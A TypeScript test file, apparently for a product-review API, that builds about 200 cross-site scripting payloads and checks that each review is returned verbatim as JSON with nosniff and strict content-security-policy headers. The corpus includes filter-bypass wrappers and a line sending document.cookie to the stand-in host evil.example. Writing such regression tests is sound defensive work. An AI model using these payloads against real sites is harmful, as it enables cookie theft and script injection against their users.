import { beforeAll, expect, test } from "vitest";
import { useHarness } from "./harness.ts";

const harness = useHarness();

/** What a script would do, if it ran. */
const acts = [
  "alert(1)",
  "alert`1`",
  "fetch('//evil.example?'+document.cookie)",
  "location='//evil.example'",
  "eval(atob('YWxlcnQoMSk='))",
  "import('//evil.example/x.js')",
  "top['al'+'ert'](1)",
  "Function('alert(1)')()",
  "document.write('<b>')",
  "\\u0061lert(1)",
];

/** How it would come to run, were text taken for a page. */
const ways: ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `</title></textarea><script>${act}</script>`,
  (act) => `"><img src=x onerror=${act}>`,
  (act) => `'><svg onload=${act}>`,
  (act) => `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  (act) => `<a href="javascript:${act}">read more</a>`,
  (act) => `[read more](javascript:${act})`,
  (act) => `![picture](x" onerror="${act})`,
  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  (act) => `<details open ontoggle=${act}>`,
  (act) => `<style>@import'//evil.example';</style><body onload=${act}>`,
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `\${${act}}`,
  (act) => `<!--<img src="--><img src=x onerror=${act}//">`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `<scr<script>ipt>${act}</scr</script>ipt>`,
  (act) => `<object data="data:text/html,<script>${act}</script>">`,
  (act) => `\u2028</script><script>${act}//`,
  (act) => `<ſcript>${act}</ſcript>\u202e`,
];

const corpus = ways.flatMap((way) => acts.map(way));

beforeAll(() => harness().addProduct("beans"));

test("200 texts that look like scripts are kept and given back as the text they are", async () => {
  expect(new Set(corpus).size).toBeGreaterThanOrEqual(200);
  for (const [index, payload] of corpus.entries()) {
    const words = {
      title: payload.slice(0, 120),
      text: `${payload} `.padEnd(100, "It stays sweet. ").trim(),
    };
    const { id } = await harness().addReview("beans", { memberId: BigInt(index + 1), ...words });
    const answer = await harness().send("GET", `/reviews/${id}`);
    expect(answer.json()).toMatchObject({ review: words });
    expect(answer.headers.get("content-type")).toBe("application/json");
    expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    expect(answer.headers.get("content-security-policy")).toContain("default-src 'none'");
  }
});
